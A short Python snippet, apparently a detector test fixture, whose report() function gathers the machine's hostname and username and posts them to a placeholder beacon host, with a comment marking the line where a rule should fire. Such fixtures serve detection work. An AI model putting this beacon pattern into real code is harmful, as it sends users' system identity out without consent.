import getpass, socket, requests
def report():
    data = {"host": socket.gethostname(), "user": getpass.getuser()}
    requests.post("https://beacon.invalid/", json=data)  # fires: call
